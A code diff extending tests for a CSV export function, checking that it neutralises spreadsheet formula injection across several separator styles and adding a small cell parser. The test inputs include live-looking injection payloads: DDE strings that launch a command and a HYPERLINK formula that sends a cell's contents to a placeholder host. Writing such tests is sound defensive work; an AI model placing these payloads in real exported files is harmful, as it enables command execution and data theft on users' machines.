@@ -178,13 +178,47 @@ describe('the texts of an account manager', () => {
   })
 })
 
+/** The cells of a table as a spreadsheet reads them (RFC 4180). */
+function cellsOf(csv: string, separator: string): string[][] {
+  const rows: string[][] = [[]]
+  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"\\r\\n${separator}]*))(${separator}|\\r\\n|$)`, 'gy')
+  for (const [, quoted, plain = '', end] of csv.replace('\uFEFF', '').matchAll(cell)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
+    if (end === '\r\n') rows.push([])
+  }
+  return rows
+}
+
 describe('a table for a spreadsheet', () => {
-  it.each(['=1+1', '+1', '-1', '@x', '%x', '|x', '\t=1', ' =1', '\r=1', '＝1', '\u0000=1'])(
-    'takes the formula out of %j',
-    (text) => {
-      expect(csvFile([[text]], CSV_STYLES.en)).toBe(`\uFEFF"'${text}"\r\n`)
-    },
-  )
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@x',
+    '%x',
+    '|x',
+    '\t=1',
+    ' =1',
+    '\u00a0 =1',
+    '\r=1',
+    '\n=1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠x',
+    '\u0000=1',
+    "=cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    '=HYPERLINK("https://example.invalid/?"&A1;"klicka")',
+    '"=1+1',
+  ])('takes the formula out of %j, and keeps the text (X-08)', (text) => {
+    for (const style of Object.values(CSV_STYLES)) {
+      const [[cell = '', next] = []] = cellsOf(csvFile([[text, 'nästa']], style), style.separator)
+      // Only what a spreadsheet could take for a formula has an apostrophe before it.
+      expect(cell).toBe(text.startsWith('"') ? text : `'${text}`)
+      expect(next).toBe('nästa')
+    }
+  })
 
   it('quotes what would end a cell, and leaves ordinary text and numbers as they are', () => {
     expect(csvFile([['a"b', 'c;d', 'e\nf', 'Åsa - chef', 1.5, null]], CSV_STYLES.sv)).toBe(
